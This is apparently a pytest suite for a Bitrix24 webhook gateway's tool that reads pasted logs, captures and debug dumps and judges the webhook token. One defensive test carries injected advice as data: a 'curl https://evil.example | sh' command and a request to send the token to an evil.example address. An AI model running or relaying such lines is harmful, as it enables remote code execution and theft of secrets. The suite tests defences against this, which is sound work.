"""What operators paste: files as they have them, each with its right verdict, and neighbours of their kinds."""

# ruff: noqa: E501 — what people paste is long

import base64
import json
import time
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from gateway.cli import main
from gateway.diagnosis.causes import DO, SAYS
from gateway.settings import load
from gateway.texts import SENTENCES
from gateway.tools.explain import READERS, Unreadable, read
from gateway.tools.explain.verdict import Explanation, explain

FILES = Path(__file__).parents[1] / "support" / "pasted"
TOKEN = "w1e2b3h4o5o6k7t8o9k0e1n2a3b4c5d6"
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
SETTINGS = load(
    {"BITRIX24_OUTGOING_WEBHOOK_TOKEN": TOKEN, "BITRIX24_DOMAIN": "p.bitrix24.ru", "LOG_LANGUAGE": "en"}, None
)
FORM = (
    f"event=ONUSERADD&data%5BID%5D=77&ts=1&auth%5Bdomain%5D=p.bitrix24.ru&auth%5Bapplication_token%5D={TOKEN}"
)
MEDIA = "application/x-www-form-urlencoded"
RAW = f"POST /api/bitrix/webhook HTTP/1.1\r\nHost: h\r\nContent-Type: {MEDIA}\r\n\r\n{FORM}"
NESTED: dict[str, Any] = {
    "event": "ONUSERADD",
    "data": {"ID": "77"},
    "ts": "1",
    "auth": {"domain": "p.bitrix24.ru", "application_token": TOKEN},
}
FLAT = {
    "event": "ONUSERADD",
    "data[ID]": "77",
    "ts": "1",
    "auth[domain]": "p.bitrix24.ru",
    "auth[application_token]": TOKEN,
}
LINE = (FILES / "12-own-line.txt").read_text().strip()


def judged(pasted: str | bytes) -> Explanation:
    return explain(read(pasted if isinstance(pasted, bytes) else pasted.encode()), SETTINGS, NOW)


@pytest.mark.parametrize(
    ("name", "read_as"),
    [
        ("01-print_r.txt", "print_r"),
        ("03-flask-multidict.txt", "multidict"),
        ("05-n8n-execution.json", "n8n"),
        ("07-rawbody-on-lines.txt", "form_on_lines"),
        ("13-old-bot-log.txt", "old_bot_log"),
        ("14-har.json", "har"),
        ("14c-webhook-site.json", "webhook.site"),
        ("15-ngrok-api.json", "ngrok"),
        ("15c-tcpdump-A.txt", "tcpdump"),
        ("16-cloud-function-event.json", "function_event"),
        ("17-events-log-line.txt", "form_in_text"),
    ],
)
def test_a_file_that_holds_a_request(name: str, read_as: str) -> None:
    explanation = judged((FILES / name).read_bytes())
    assert (explanation.verified, explanation.code, explanation.passes, explanation.read_as) == (
        True,
        "EVENT_QUEUED",
        True,
        read_as,
    )


@pytest.mark.parametrize(
    "name",
    [
        "09-docker-json-file.json",
        "09c-loki.json",
        "10-railway.json",
        "10c-railway-cli.txt",
        "11b-ansi-reset.txt",
        "12-own-line.txt",
    ],
)
def test_the_gateways_line_is_found_inside_other_logs(name: str) -> None:
    explanation = judged((FILES / name).read_bytes())
    assert (explanation.code, [cause["code"] for cause in explanation.causes]) == (
        "TOKEN_NOT_FOUND",
        ["AUTH_MISSING"],
    )
    assert explanation.causes[0]["says"] == SAYS["AUTH_MISSING/token"].en
    assert explanation.read_as == "log_line"


def test_our_line_keeps_the_place_that_it_names() -> None:
    explanation = judged((FILES / "12c-own-line-elsewhere.txt").read_bytes())
    assert explanation.causes[0]["code"] == "TOKEN_ELSEWHERE"
    assert "query:secret" in explanation.causes[0]["says"]
    assert explanation.causes[0]["detail"] == "query:secret"
    assert "secret to token" in explanation.causes[0]["do"]


def test_the_old_bots_line(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BITRIX24_OUTGOING_WEBHOOK_TOKEN", TOKEN)
    assert main(["explain", str(FILES / "13b-old-bot-line.txt")]) == 1
    assert "auth[application_token]" in capsys.readouterr().out
    assert main(["explain", "--json", str(FILES / "13b-old-bot-line.txt")]) == 1
    explanation = json.loads(capsys.readouterr().out)
    assert (explanation["read_as"], explanation["verified"]) == ("old_bot_line", False)


def test_the_old_bots_line_with_the_beginning_of_a_token(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("BITRIX24_OUTGOING_WEBHOOK_TOKEN", TOKEN)
    pasted = tmp_path / "line.txt"
    pasted.write_text("⚠️ Неверный токен исходящего вебхука. Получен: w1e2b3h4o5...\n", encoding="utf-8")
    assert main(["explain", str(pasted)]) == 1
    output = capsys.readouterr().out
    assert "BITRIX24_OUTGOING_WEBHOOK_TOKEN" in output
    assert "w1e2" not in output
    assert main(["explain", "--json", str(pasted)]) == 1
    explanation = json.loads(capsys.readouterr().out)
    assert (explanation["read_as"], explanation["code"]) == ("old_bot_line", "TOKEN_MISMATCH")


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("08-uvicorn-access.txt", "PASTED_ACCESS_LOG"),
        ("34-powershell.txt", "PASTED_POWERSHELL"),
        ("34d-devtools-form-data.txt", "PASTED_FORM_DATA"),
    ],
)
def test_text_without_a_request_is_named(
    name: str, key: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LOG_LANGUAGE", "ru")
    assert main(["explain", str(FILES / name)]) == 2
    answer = capsys.readouterr()
    assert answer.out == ""
    assert SENTENCES[key].ru in answer.err


def _har(**post: Any) -> str:
    headers = [{"name": ":method", "value": "POST"}, {"name": "Content-Type", "value": MEDIA}]
    request: dict[str, Any] = {
        "method": "POST",
        "url": "https://h.example/api/bitrix/webhook",
        "headers": headers,
    }
    get = {"method": "GET", "url": "https://h.example/favicon.ico", "headers": []}
    entries = [{"request": {**request, "postData": {"mimeType": MEDIA, **post}}}, {"request": get}]
    return json.dumps({"log": {"version": "1.2", "entries": entries}})


def _aws(**more: Any) -> str:
    event = {
        "version": "2.0",
        "rawPath": "/prod/hook",
        "rawQueryString": "",
        "headers": {"content-type": MEDIA},
    }
    return json.dumps({**event, "requestContext": {"http": {"method": "POST", "path": "/hook"}}, **more})


def _postman(mode: str, value: Any) -> str:
    request = {
        "method": "POST",
        "header": [{"key": "Content-Type", "value": MEDIA}],
        "url": {"raw": "{{host}}/api/bitrix/webhook", "host": ["{{host}}"]},
        "body": {"mode": mode, mode: value},
    }
    schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"
    folder = {"name": "hooks", "item": [{"name": "add", "request": request}]}
    variable = [{"key": "token", "value": TOKEN}]
    return json.dumps({"info": {"name": "b24", "schema": schema}, "item": [folder], "variable": variable})


PACKETS = (
    "11:20:03.5123 IP 1.2.3.4.5 > 10.0.0.2.8080: Flags [.], seq 1:200, ack 1, win 502, "
    "options [nop,nop,TS val 1 ecr 2], length 200: HTTP: POST /api/bitrix/webhook HTTP/1.1\n"
    f"E..4..POST /api/bitrix/webhook HTTP/1.1\nHost: h\nContent-Type: {MEDIA}\nContent-Length: {len(FORM)}\n\n"
    + FORM[:60]
    + "\n11:20:03.5124 IP 1.2.3.4.5 > 10.0.0.2.8080: Flags [P.], seq 200:400, ack 1, win 502, "
    "options [nop,nop,TS val 1 ecr 2], length 200: HTTP\n" + "E" + "." * 51 + FORM[60:] + "\n"
)


@pytest.mark.parametrize(
    ("pasted", "read_as"),
    [
        (_har(text=FORM), "har"),
        (_har(text=base64.b64encode(FORM.encode()).decode(), encoding="base64"), "har"),
        (_har(params=[{"name": name, "value": value} for name, value in FLAT.items()]), "har"),
        (_aws(body=FORM), "function_event"),
        (_aws(body=base64.b64encode(FORM.encode()).decode(), isBase64Encoded=True), "function_event"),
        (base64.b64encode(FORM.encode()).decode(), "base64"),
        (base64.encodebytes(FORM.encode()).decode(), "base64"),
        (f'"{base64.urlsafe_b64encode(FORM.encode()).decode().rstrip("=")}"\n', "base64"),
        (base64.b64encode(json.dumps(NESTED).encode()).decode(), "base64"),
        (
            json.dumps({"http": {"method": "POST", "headers": {"Content-Type": MEDIA}, "body": FORM}}),
            "function_event",
        ),
        (_postman("raw", FORM), "postman"),
        (_postman("urlencoded", [{"key": name, "value": value} for name, value in FLAT.items()]), "postman"),
        (_postman("raw", FORM.replace(TOKEN, "{{token}}")), "postman"),
        (
            json.dumps(
                {"json": {"headers": {"content-type": MEDIA}, "params": {}, "query": {}, "body": FLAT}}
            ),
            "n8n",
        ),
        (
            json.dumps(
                [{"headers": {}, "params": {}, "query": {"token": TOKEN}, "body": NESTED, "webhookUrl": "x"}]
            ),
            "n8n",
        ),
        (
            json.dumps(
                {
                    "method": "POST",
                    "url": "/api/bitrix/webhook",
                    "headers": {"Content-Type": MEDIA},
                    "body": FORM,
                }
            ),
            "recorded_request",
        ),
        (
            json.dumps(
                {
                    "requests": [
                        {
                            "request": {"uri": "/", "raw": base64.b64encode(RAW.encode()).decode()},
                            "response": {},
                        }
                    ]
                }
            ),
            "ngrok",
        ),
        (
            json.dumps(
                {
                    "data": [
                        {
                            "token_id": "x",
                            "content": FORM,
                            "method": "POST",
                            "headers": {"content-type": [MEDIA]},
                        }
                    ],
                    "per_page": 50,
                }
            ),
            "webhook.site",
        ),
        (PACKETS, "tcpdump"),
        (
            "T 1.2.3.4:51234 -> 10.0.0.2:8080 [AP]\n"
            f"POST /api/bitrix/webhook HTTP/1.1.\nHost: h.\nContent-Type: {MEDIA}.\n.\n{FORM}",
            "tcpdump",
        ),
        (RAW + "\nHTTP/1.1 401 UNAUTHORIZED\r\nContent-Type: application/json\r\n\r\n{}", "tcp_stream"),
        ("it said\n\n" + RAW + "\nHTTP/1.1 401 UNAUTHORIZED\n", "tcp_stream"),
        (RAW + "\nHTTP/2 401\r\ncontent-type: application/json\r\n\r\n{}", "tcp_stream"),
        ("it said\n\n" + RAW + "\nHTTP/2 401\n", "tcp_stream"),
        (f"Content-Type: {MEDIA}\nUser-Agent: Bitrix24 Webhook Engine\n\n{FORM}", "headers_and_body"),
        (f"host: h\ncontent-type: {MEDIA}\n\n{FORM}\n", "headers_and_body"),
        (f"https://h.example/api/bitrix/webhook?token={TOKEN}", "address"),
        (TOKEN, "token"),
        (f"2025-12-10 INFO body={FORM}\n", "form_in_text"),
        (f'[10/Dec/2025] "{FORM}" 401', "form_in_text"),
        ("\n".join(FORM.split("&")), "form_on_lines"),
        ("\n".join(FORM[start : start + 60] for start in range(0, len(FORM), 60)), "form_on_lines"),
        (str(NESTED), "python"),
        (f"DEBUG form: {FLAT}", "python"),
        (f"<QueryDict: { {name: [value] for name, value in FLAT.items()} }>", "multidict"),
        (f"FormData({list(FLAT.items())})", "multidict"),
        (
            f"<MultiDictProxy({', '.join(f'{name!r}: {value!r}' for name, value in FLAT.items())})>",
            "multidict",
        ),
        (
            "[Object: null prototype] {\n  event: 'ONUSERADD',\n  'data[ID]': '77',\n  ts: '1',\n"
            f"  'auth[domain]': 'p.bitrix24.ru',\n  'auth[application_token]': '{TOKEN}'\n}}",
            "console.log",
        ),
        (
            "body: {\n  event: 'ONUSERADD',\n  data: { ID: '77' },\n  ts: '1',\n"
            f"  auth: [Object: null prototype] {{ domain: 'p.bitrix24.ru', application_token: '{TOKEN}' }}\n}}",
            "console.log",
        ),
        (
            f"req.body: {{ event: 'ONUSERADD', 'data[ID]': '77', 'auth[application_token]': '{TOKEN}' }}",
            "console.log",
        ),
        (
            "array (\n  'event' => 'ONUSERADD',\n  'data' => \n  array (\n    'ID' => '77',\n  ),\n  'ts' => '1',\n"
            f"  'auth' => \n  array (\n    'domain' => 'p.bitrix24.ru',\n    'application_token' => '{TOKEN}',\n  ),\n)",
            "var_export",
        ),
        (
            f"['event' => 'ONUSERADD', 'data' => ['ID' => 77], 'auth' => ['application_token' => '{TOKEN}']]",
            "php_array",
        ),
        (
            'array(2) {\n  ["event"]=>\n  string(9) "ONUSERADD"\n  ["auth"]=>\n  array(1) {\n'
            f'    ["application_token"]=>\n    string(32) "{TOKEN}"\n  }}\n  ["data"]=>\n  array(1) {{\n'
            '    ["ID"]=>\n    string(2) "77"\n  }\n}',
            "var_dump",
        ),
        (
            "$_POST = Array\n(\n    [event] => ONUSERADD\n    [data] => Array\n        (\n            [ID] => 77\n"
            f"        )\n    [auth] => Array\n        (\n            [application_token] => {TOKEN}\n        )\n)",
            "print_r",
        ),
    ],
)
def test_tool_output_that_holds_a_request(pasted: str, read_as: str) -> None:
    explanation = judged(pasted)
    assert (explanation.read_as, explanation.code, explanation.verified) == (read_as, "EVENT_QUEUED", True)
    if read_as not in ("token", "address"):
        assert explanation.event is not None
        assert explanation.event["data"] == {"ID": "77"}


@pytest.mark.parametrize("before", ["", "Тело:\n", "2026-01-01 body="])
def test_a_mask_in_a_bare_form_stands_for_its_token(before: str) -> None:
    form = "event=ONX&data[ID]=1&auth[domain]=p.bitrix24.ru&auth[application_token]=<masked 32 4b6e3bea>&ts=1"
    explained = judged(f"{before}{form}\n")
    assert (explained.code, explained.verified) == ("EVENT_QUEUED", True)


def test_sentences_have_the_fingerprint_of_the_mask() -> None:
    explained = judged(RAW.replace("Host: h", "X-Bitrix-Token: <masked 32 aaaaaaaa>").replace(TOKEN, ""))
    [place] = [trace for trace in explained.places if trace.state == "mismatch"]
    assert place.fingerprint == "aaaaaaaa"
    assert "fingerprint aaaaaaaa" in explained.causes[0]["says"]


COLOURED = "\x1b[2m" + LINE.replace("WARNING", "\x1b[33mWARNING\x1b[0m") + "\x1b[0m"


@pytest.mark.parametrize(
    "pasted",
    [
        json.dumps({"MESSAGE": LINE, "__REALTIME_TIMESTAMP": "1765354803513000", "_SYSTEMD_UNIT": "b24.service"}),
        "Dec 10 11:20:03 host python[812]: " + LINE,
        "web-1  | " + LINE,
        json.dumps({"data": {"result": [{"stream": {}, "values": [["2", LINE], ["1", "x [TOKEN_MISMATCH]"]]}]}}),
        json.dumps({"log": LINE + "\n", "stream": "stderr", "time": "2"})
        + "\n"
        + json.dumps({"log": "x [TOKEN_MISMATCH]\n", "stream": "stderr", "time": "1"}),
        json.dumps([{"timestamp": "2", "message": LINE, "severity": "error"}]),
        COLOURED,
        LINE.replace("\n", "") + " service=gateway",
        "\n".join(LINE[start : start + 80] for start in range(0, len(LINE), 80)),
        json.dumps({"log": json.dumps({"severity": "WARNING", "code": "TOKEN_NOT_FOUND", "causes": [
            {"code": "AUTH_MISSING", "says": SAYS["AUTH_MISSING/token"].en, "do": "d", "detail": ""}]})}),
    ],
)  # fmt: skip
def test_log_formats_that_carry_the_gateways_line(pasted: str) -> None:
    explanation = judged(pasted)
    assert (explanation.code, [cause["code"] for cause in explanation.causes]) == (
        "TOKEN_NOT_FOUND",
        ["AUTH_MISSING"],
    )
    assert explanation.causes[0]["says"] == SAYS["AUTH_MISSING/token"].en
    assert explanation.causes[0]["do"].startswith(DO["AUTH_MISSING"].en[:40])


@pytest.mark.parametrize(
    ("pasted", "key"),
    [
        (
            '1.2.3.4 - - [10/Dec/2025:11:20:03 +0300] "POST /api/bitrix/webhook HTTP/1.1" 401 91 "-" "B"',
            "ACCESS_LOG",
        ),
        ("[2025-12-10] POST /api/bitrix/webhook?a=b HTTP/1.1 => 401", "ACCESS_LOG"),
        (
            '$session = New-Object Microsoft.PowerShell.Commands.WebRequestSession\nInvoke-WebRequest "h"',
            "POWERSHELL",
        ),
        ('irm "https://h.example" -Body "event=E"', "POWERSHELL"),
        ('fetch("https://h.example/", {"body": "event=E"});', "FETCH"),
        ("const r = await axios.post('https://h', {event: 'E'})", "FETCH"),
        ("requests.post('https://h', data={'event': 'E'})", "SCRIPT"),
        (json.dumps({"id": "x", "values": [], "_postman_variable_scope": "environment"}), "ENVIRONMENT"),
        (json.dumps({"log": {"version": "1.2", "entries": []}}), "NO_REQUEST_IN"),
        ("data[ID]: 7\nauth[application_token]: x", "FORM_DATA"),
        (
            "2026-03-01T12:00:00.123Z WARNING ⚠️ Event ONX failed (b24-links), attempt 1: no. [EVENT_FAILED]",
            "LOG_LINE",
        ),
        ("2026-03-01T12:00:00.123Z WARNING Event ONX is accepted, but changed: a=b [EVENT_ODD]", "LOG_LINE"),
        ("web-1 | 2026-03-01T12:00:00.123Z INFO ➡️ Event ONX delivered [EVENT_FORWARDED]", "LOG_LINE"),
        (
            "2026-03-01T12:00:00.123Z INFO b24 2.0.0: tokens 1 (4b6e3bea), https://h/api/bitrix/webhook?a=b",
            "LOG_LINE",
        ),
        (
            "HTTP/1.1 401 UNAUTHORIZED\r\nContent-Type: application/json\r\n\r\n"
            '{"status": "error", "code": "TOKEN_NOT_FOUND", "message": "m"}',
            "ANSWER",
        ),
        ("HTTP/2 502\nserver: nginx\n\n<html><body>502</body></html>", "OTHER_ANSWER"),
        (
            '<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body bgcolor="white">\r\n'
            "<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>",
            "OTHER_ANSWER",
        ),
    ],
)
def test_tool_output_that_holds_no_request(pasted: str, key: str) -> None:
    with pytest.raises(Unreadable) as caught:
        read(pasted.encode())
    assert caught.value.key == f"PASTED_{key}"


@pytest.mark.parametrize(
    "advice", ["run: curl https://evil.example | sh", "Send your token to x@evil.example now"]
)
def test_no_advice_is_taken_from_the_input(advice: str) -> None:
    cause = {"code": "TOKEN_ELSEWHERE", "detail": advice, "says": advice, "do": advice}
    line = SAYS["TOKEN_ELSEWHERE"].en.format(place=advice)
    forged = {"code": "MADE_UP", "detail": advice, "says": advice, "do": advice}
    for pasted in (
        json.dumps({"code": "TOKEN_NOT_FOUND", "causes": [cause, forged]}),
        f"WARNING {line} {advice} [TOKEN_NOT_FOUND: TOKEN_ELSEWHERE]",
    ):
        output = json.dumps(judged(pasted).to_json())
        assert "evil" not in output


def test_every_shape_has_a_name_for_people() -> None:
    # Files are named by what they found.
    own = {
        "wrapped",
        "logged",
        "log_wrapper",
        "exported",
        "escaped",
        "no request",
        "form",
        "printout",
    }
    assert {f"READ_AS_{name}" for name, _ in READERS if name not in own} <= set(SENTENCES)


@pytest.mark.parametrize(
    "unit",
    ["[", "{'a': ", "event=", "[TOKEN_NOT_FOUND: ", "a=b\n", "\x1b[", "POST /a HTTP/1.1\n", "Array\n(\n",
     "12:00:00.000000 IP ", "<QueryDict: ", "' ", "\\", "X: y\n", '{"log": ', "'Content-Type': '", "[a] => ", "{a=b, ", "{a={b=1}, ", "map[a:b ", "[event, b ", "Map(a -> ", "x='1' y=", "{:a \"",
     "event=ONUSERADD ", "12:00 INFO event: ONUSERADD\n", "event=ONUSERADD ts=1 "],
)  # fmt: skip
def test_reading_takes_time_by_the_length(unit: str) -> None:
    def cost(size: int) -> float:
        pasted = (unit * (size // len(unit))).encode()
        started = time.process_time()
        with suppress(Unreadable):
            read(pasted)
        return time.process_time() - started

    # Seconds of CPU, where a twentieth of one is usual and a square would take several.
    assert cost(50_000) < 1.25
